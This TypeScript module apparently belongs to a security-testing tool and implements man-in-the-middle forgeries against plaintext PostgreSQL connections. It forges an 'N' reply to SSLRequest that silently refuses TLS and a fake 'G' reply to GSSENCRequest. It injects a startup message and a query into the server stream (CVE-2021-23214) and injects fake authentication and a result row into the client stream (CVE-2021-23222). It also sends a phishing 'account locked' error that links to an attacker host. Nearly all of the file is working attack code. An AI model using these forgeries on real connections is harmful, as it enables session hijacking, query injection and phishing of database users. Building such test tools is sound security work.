/**
 * The lies that plaintext PostgreSQL makes possible. Nothing is offered in advance, so there is nothing to strip; one forged octet in
 * answer to SSLRequest is enough, and no client can tell it from a server that really has no TLS.
 */
import { concat, fromText } from '../../bytes/hex';
import type { Forgery } from '../dialect';

import { work } from './client';
import {
  authentication,
  authenticationRequest,
  commandComplete,
  dataRow,
  errorResponse,
  query,
  readyForQuery,
  rowDescription,
  startupMessage,
} from './message';

export const forgery: Forgery = {
  withoutOffer: (message) => message,
  maskedOffer: (message) => message,
  refusal: () => fromText('N'),
  lies: {
    // CVE-2021-23214. The query runs where a certificate or an address is login enough; who must answer a question for a password cannot
    // answer it in advance, and then the session that the client is in has been begun by somebody else, and breaks.
    commands: (request, { account }) =>
      concat(request, startupMessage({ user: account.user, database: 'postgres' }), query(work)),
    // CVE-2021-23222. No password is asked for, and the first question is answered before it is put.
    responses: (goAhead, { host }) =>
      concat(
        goAhead,
        authenticationRequest(authentication.ok),
        readyForQuery,
        rowDescription('message', textType, -1),
        dataRow(fromText(`From: "Your provider" <help@${host}>\r\n\r\nhttps://${host}/\r\n`)),
        commandComplete('SELECT 1'),
        readyForQuery,
      ),
    // A client that shows it shows words of the attacker’s before it can know whose they are.
    alert: (goAhead, { host }) =>
      concat(errorResponse('FATAL', '28000', `your account is locked, see https://${host}/`), goAhead),
    // The yes to another request, GSSENCRequest.
    'no-answer': () => fromText('G'),
  },
};

/** The object identifier of the type text. */
const textType = 25;
